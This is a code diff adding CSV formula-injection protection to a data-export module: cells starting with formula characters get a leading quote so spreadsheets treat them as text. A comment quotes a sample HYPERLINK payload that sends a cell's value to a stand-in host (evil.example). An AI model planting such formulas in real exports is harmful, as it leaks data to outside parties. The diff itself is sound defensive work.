@@ -197,6 +197,19 @@ def _criteria() -> dict[int, tuple[tuple[Any, ...], dict[int, str]]]:
     }
 
 
+# A cell a spreadsheet would read as a formula (OWASP, "CSV Injection"): a roster value such as
+# =HYPERLINK("http://evil.example/?"&A2,"x") must reach a data team's Excel as text.
+_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def inert(value: Any) -> Any:
+    """A CSV cell as text a spreadsheet will not evaluate: one starting like a formula gets a
+    leading single quote, which Excel and LibreOffice read as "this is text"."""
+    if isinstance(value, str) and value.startswith(_FORMULA_STARTS):
+        return "'" + value
+    return value
+
+
 def csv_chunks(records: Iterator[Parts], every: int = 2_000) -> Iterator[str]:
     """CSV text in pieces of ``every`` rows, the header first. Each part of a row is formatted
     once (a walkthrough's for all its ratings), the row is their concatenation."""
@@ -206,7 +219,7 @@ def csv_chunks(records: Iterator[Parts], every: int = 2_000) -> Iterator[str]:
     def text(values: tuple[Any, ...] | list[str]) -> str:
         buffer.seek(0)
         buffer.truncate()
-        writer.writerow(values)
+        writer.writerow([inert(v) for v in values])
         return buffer.getvalue()
 
     formatted: dict[tuple[Any, ...], str] = {}
